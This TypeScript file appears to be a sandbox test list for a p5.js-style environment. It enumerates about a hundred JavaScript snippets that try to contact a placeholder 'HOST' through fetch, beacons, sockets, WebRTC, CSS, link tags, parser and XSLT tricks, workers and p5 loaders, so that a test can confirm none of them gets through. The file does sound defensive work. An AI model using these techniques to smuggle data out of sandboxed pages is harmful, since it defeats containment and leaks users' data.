/**
 * Ways to tell a stranger something. Each has a stranger of its own at `HOST`, who must hear nothing: no
 * request, no connection, no datagram.
 */
export const NETWORK: Record<string, string> = {
	fetch: 'await fetch("http://HOST/", { mode: "no-cors" }); return "out"',
	'fetch kept alive':
		'await fetch("http://HOST/", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }); return "out"',
	'fetch later': 'fetchLater("http://HOST/", { activateAfter: 0 })',
	'a request made by hand':
		'await fetch(new Request("http://HOST/", { mode: "no-cors" })); return "out"',
	XMLHttpRequest:
		'const x = new XMLHttpRequest(); x.open("GET", "http://HOST/"); x.send(); return came(x)',
	'XMLHttpRequest at once':
		'const x = new XMLHttpRequest(); x.open("GET", "http://HOST/", false); x.send(); return x.status ? "out" : "in"',
	'a beacon': 'navigator.sendBeacon("http://HOST/", "x")',
	'a web socket': 'return came(new WebSocket("ws://HOST/"))',
	'a web socket stream': 'await new WebSocketStream("ws://HOST/").opened; return "out"',
	'an event source': 'return came(new EventSource("http://HOST/"))',
	WebTransport: 'await new WebTransport("https://HOST/").ready; return "out"',
	'WebRTC to a relay':
		'const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); return "out"',
	'WebRTC by its old name':
		'const p = new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); return "out"',
	'an image': 'const i = new Image(); i.src = "http://HOST/"; return came(i)',
	'an image set': 'const i = new Image(); i.srcset = "http://HOST/ 2x"; return came(i)',
	'an image that is to be attributed':
		'const i = new Image(); i.setAttribute("attributionsrc", "http://HOST/"); i.src = "http://HOST/"; return came(i)',
	'a picture': 'write("<picture><source srcset=http://HOST/><img src=http://HOST/></picture>")',
	'an image button': 'write("<input type=image src=http://HOST/>")',
	'a background of old':
		'write("<table background=http://HOST/><tr><td background=http://HOST/>x</table>")',
	'a video': 'return came(add("video", { src: "http://HOST/", autoplay: true, muted: true }))',
	'a poster': 'add("video", { poster: "http://HOST/" })',
	'a sound': 'return came(new Audio("http://HOST/"))',
	'a track':
		'write("<video src=data:, crossorigin><track default src=http://HOST/></video>"); document.querySelector("track").track.mode = "showing"',
	'an SVG image':
		'write("<svg><image href=http://HOST/ width=9 height=9 /><use href=http://HOST/#a /></svg>")',
	'an SVG filter':
		'write("<svg><filter id=f><feImage href=http://HOST/ /></filter><rect width=9 height=9 filter=url(#f) /></svg>")',
	'an SVG fill from elsewhere':
		"write(\"<svg><rect width=9 height=9 fill='url(http://HOST/#a)' mask='url(http://HOST/#b)' /></svg>\")",
	'a picture of an SVG':
		"const i = new Image(); i.src = \"data:image/svg+xml,\" + encodeURIComponent(\"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='http://HOST/' width='9' height='9'/><style>@import url(http://HOST/)</style></svg>\"); await i.decode(); document.body.append(i)",
	'a style sheet': 'style("@import url(http://HOST/);")',
	'a background': 'style("body { background: url(http://HOST/) }")',
	'a font':
		'style("@font-face { font-family: f; src: url(http://HOST/) } body { font-family: f }"); add("p", { textContent: "x" })',
	'a font face': 'await new FontFace("g", "url(http://HOST/)").load(); return "out"',
	'a cursor, a list mark, a shape':
		'style("body { cursor: url(http://HOST/), auto; list-style: url(http://HOST/); shape-outside: url(http://HOST/); clip-path: url(http://HOST/#a); -webkit-mask: url(http://HOST/) }")',
	'an image set in a style':
		'style("body { background: image-set(url(http://HOST/) 1x); border-image: url(http://HOST/) 1 }")',
	'a style of its own': 'add("p").style.backgroundImage = "url(http://HOST/)"',
	'a constructed style sheet':
		'const s = new CSSStyleSheet(); s.replaceSync("* { background: url(http://HOST/) }"); document.adoptedStyleSheets = [s]',
	'a style in a shadow':
		'add("div").attachShadow({ mode: "open" }).innerHTML = "<style>@import url(http://HOST/); :host { background: url(http://HOST/) }</style>"',
	'a script': 'document.body.append(make("script", { src: "http://HOST/" }))',
	'an SVG script':
		'const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", "http://HOST/"); document.body.append(s)',
	'an import': 'await (0, eval)("import(\'http://HOST/\')"); return "out"',
	'an import from a blob':
		'await (0, eval)("(a) => import(a)")(blob("import \'http://HOST/\'")); return "out"',
	'speculation rules':
		'document.head.append(make("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["http://HOST/"] }] }) }))',
	...Object.fromEntries(
		[
			'preconnect',
			'prefetch',
			'prerender',
			'preload',
			'modulepreload',
			'stylesheet',
			'icon',
			'manifest',
			'dns-prefetch',
			'compression-dictionary'
		].map((rel) => [
			`a link: ${rel}`,
			`const l = make("link", { rel: "${rel}", as: "image", href: "http://HOST/" }); document.head.append(l); return planted(l)`
		])
	),
	'a link, written':
		'document.body.innerHTML += "<link rel=preconnect href=http://HOST/>"; return planted(document)',
	'a link, written beside':
		'document.body.insertAdjacentHTML("beforeend", "<link/rel=preconnect href=http://HOST/>"); return planted(document)',
	'a link, written after a break':
		'write("<\\nlink rel=preconnect href=http://HOST/><LINK\\trel=preconnect href=http://HOST/>"); return planted(document)',
	'a link, parsed':
		'document.body.append(new DOMParser().parseFromString("<link rel=preconnect href=http://HOST/>", "text/html").querySelector("link")); return planted(document)',
	'a link, renamed':
		"document.body.append(new DOMParser().parseFromString(\"<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='preconnect' href='http://HOST/'/>\", 'text/xml').documentElement); return planted(document)",
	'a link, spelled in an entity':
		'document.body.append(document.importNode(new DOMParser().parseFromString("<!DOCTYPE x [<!ENTITY e \'&#60;link xmlns=\\"http://www.w3.org/1999/xhtml\\" rel=\\"preconnect\\" href=\\"http://HOST/\\"/>\'>]><x>&e;</x>", \'text/xml\').documentElement, true)); return planted(document)',
	'a link, disguised':
		'let n = 0; const l = document.createElement({ toString: () => (n++ ? "link" : "p") }); l.rel = "preconnect"; l.href = "http://HOST/"; document.head.append(l); return planted(document)',
	'a link, sanitized':
		'const d = add("div"); d.setHTML("<link rel=preconnect href=http://HOST/>", { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } }); return planted(document)',
	'a link, unsafe':
		'add("div").setHTMLUnsafe("<link rel=preconnect href=http://HOST/>"); return planted(document)',
	'a link as a fragment':
		'document.body.append(document.createRange().createContextualFragment("<link rel=preconnect href=http://HOST/>")); return planted(document)',
	'a link in a template':
		'const t = make("template"); t.innerHTML = "<link rel=preconnect href=http://HOST/>"; document.body.append(t.content); return planted(document)',
	'a link of its own class':
		'class L extends HTMLLinkElement {} customElements.define("x-link", L, { extends: "link" }); document.head.append(Object.assign(new L(), { rel: "preconnect", href: "http://HOST/" })); return planted(document)',
	'a link of a registry of its own':
		'class M extends HTMLLinkElement {} const r = new CustomElementRegistry(); r.define("y-link", M, { extends: "link" }); document.head.append(Object.assign(new M(), { rel: "preconnect", href: "http://HOST/" })); return planted(document)',
	'a link in another document':
		'const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = "<link rel=preconnect href=http://HOST/>"; document.body.append(d.body.firstChild); return planted(document)',
	'a link in a new document':
		'const d = new Document(); const l = d.createElementNS("http://www.w3.org/1999/xhtml", "link"); l.setAttribute("rel", "preconnect"); l.setAttribute("href", "http://HOST/"); document.head.append(l); return planted(document)',
	'a link by transformation':
		"const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(\"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><xsl:element name='link' namespace='http://www.w3.org/1999/xhtml'><xsl:attribute name='rel'>preconnect</xsl:attribute><xsl:attribute name='href'>http://HOST/</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>\", \"text/xml\")); document.body.append(p.transformToFragment(new DOMParser().parseFromString(\"<a/>\", \"text/xml\"), document)); return planted(document)",
	'a style sheet by instruction':
		'const d = new DOMParser().parseFromString("<?xml-stylesheet href=\'http://HOST/\'?><a/>", "text/xml"); document.body.append(document.adoptNode(d.firstChild)); document.insertBefore(document.createProcessingInstruction("xml-stylesheet", "href=\'http://HOST/\' type=\'text/css\'"), document.documentElement)',
	'a document that is asked for':
		'const x = new XMLHttpRequest(); x.open("GET", "data:text/html,<link rel=preconnect href=http://HOST/>"); x.responseType = "document"; x.send(); await wait(200); document.body.append(x.response.querySelector("link")); return planted(document)',
	'a written document': 'document.write("<link rel=preconnect href=http://HOST/>")',
	'a document opened anew':
		'document.open(); document.writeln("<link rel=preconnect href=http://HOST/>"); document.close()',
	'a command to insert':
		'const d = add("div", { contentEditable: "true" }); d.focus(); document.execCommand("insertHTML", false, "<link rel=preconnect href=http://HOST/>")',
	'a nested page': 'document.body.append(make("iframe", { src: "http://HOST/" }))',
	'a nested page, written':
		'document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\'<script>new RTCPeerConnection()</script>\'></iframe>"); return window.length ? "out" : "in"',
	'a nested page of its own class':
		'class F extends HTMLIFrameElement {} customElements.define("x-frame", F, { extends: "iframe" }); const f = new F(); document.body.append(f); new f.contentWindow.RTCPeerConnection(); return "out"',
	'a nested page in a frame set':
		'const f = make("frameset"); f.append(make("frame", { src: "http://HOST/" })); document.body.replaceWith(f)',
	'an object': 'document.body.append(make("object", { data: "http://HOST/" }))',
	'an embedded thing': 'document.body.append(make("embed", { src: "http://HOST/" }))',
	'a portal and a fenced frame':
		'document.body.append(make("fencedframe", { config: new FencedFrameConfig("http://HOST/") }))',
	'a refresh':
		'document.head.append(make("meta", { httpEquiv: "refresh", content: "0;url=http://HOST/" }))',
	'another base':
		'document.head.append(make("base", { href: "http://HOST/" })); await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "a.png"; }); return "out"',
	'a form': 'add("form", { action: "http://HOST/" }).submit()',
	'a posted form':
		'const f = add("form", { action: "http://HOST/", method: "post", target: "_blank" }); f.requestSubmit()',
	'a form by its button':
		'const f = add("form"); const b = make("button", { formAction: "http://HOST/" }); f.append(b); b.click()',
	'a window': 'return window.open("http://HOST/") ? "out" : "in"',
	'a followed link':
		'add("a", { href: "http://HOST/", target: "_blank", ping: "http://HOST/ping" }).click()',
	'a followed area':
		'write("<map name=m><area href=http://HOST/ target=_blank></map>"); document.querySelector("area").click()',
	'a download': 'add("a", { href: blob("x", "text/plain"), download: "x.txt" }).click()',
	'the top page': 'top.location.href = "http://HOST/"',
	'the top page, replaced': 'parent.location.replace("http://HOST/")',
	'the top page by a link':
		'add("a", { href: "http://HOST/", target: "_top" }).click(); window.open("http://HOST/", "_parent")',
	'a worker':
		"return work(TRY(\"await fetch('http://HOST/', { mode: 'no-cors' }); return 'out'\"))",
	'a worker’s worker':
		'return work("const text = " + JSON.stringify(TRY("await fetch(\'http://HOST/\', { mode: \'no-cors\' }); return \'out\'")) + "; const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = (e) => postMessage(e.data);")',
	'a worker’s script': "return work(TRY(\"importScripts('http://HOST/'); return 'out'\"))",
	'a worker’s module':
		'return work("import \'http://HOST/\'; postMessage(\'out\')", { type: "module" })',
	'a worker’s socket':
		"return work(TRY(\"return new Promise((yes, no) => { const w = new WebSocket('ws://HOST/'); w.onopen = () => yes('out'); w.onerror = no; })\"))",
	'a worker’s request':
		"return work(TRY(\"const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/', false); x.send(); return 'out'\"))",
	'a worker’s transport':
		"return work(TRY(\"await new WebTransport('https://HOST/').ready; return 'out'\"))",
	'a worker’s event source':
		"return work(TRY(\"return new Promise((yes, no) => { const w = new EventSource('http://HOST/'); w.onopen = () => yes('out'); w.onerror = no; })\"))",
	'a worker from elsewhere':
		'return new Promise((yes, no) => { const w = new Worker("http://HOST/"); w.onmessage = () => yes("out"); w.onerror = no; })',
	'a worker of text':
		'return new Promise((yes, no) => { const w = new Worker("data:text/javascript,postMessage(\'out\')"); w.onmessage = () => yes("out"); w.onerror = no; })',
	'a shared worker':
		"const w = new SharedWorker(blob(\"onconnect = (e) => fetch('http://HOST/', { mode: 'no-cors' }).then(() => e.ports[0].postMessage('out'))\")); return new Promise((yes, no) => { w.port.onmessage = () => yes(\"out\"); w.onerror = no; })",
	'a service worker':
		'await navigator.serviceWorker.register(blob("fetch(\'http://HOST/\')")); return "out"',
	'a sound worklet':
		'await new AudioContext().audioWorklet.addModule("http://HOST/"); return "out"',
	'a sound worklet’s import':
		'await new AudioContext().audioWorklet.addModule(blob("import \'http://HOST/\'")); return "out"',
	'a paint worklet': 'await CSS.paintWorklet.addModule("http://HOST/"); return "out"',
	'a picture for the media keys':
		'navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: "http://HOST/" }] })',
	'a sign-in from elsewhere':
		'await navigator.credentials.get({ identity: { providers: [{ configURL: "http://HOST/", clientId: "x" }] } }); return "out"',
	'a payment':
		'await new PaymentRequest([{ supportedMethods: "http://HOST/" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(); return "out"',
	'a presentation': 'await new PresentationRequest("http://HOST/").getAvailability(); return "out"',
	'an advertisement':
		'await navigator.joinAdInterestGroup({ owner: "https://HOST", name: "x" }, 1); return "out"',
	'shared storage': 'await sharedStorage.worklet.addModule("http://HOST/"); return "out"',
	'a fetch in the background':
		'await (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", "http://HOST/"); return "out"'
};

/** p5's own ways to load, which say that they cannot. */
export const LOADERS: Record<string, string> = {
	'a picture': 'await loadImage("http://HOST/");',
	data: 'await loadJSON("http://HOST/");',
	'a picture among the elements': 'createImg("http://HOST/", "x");'
};
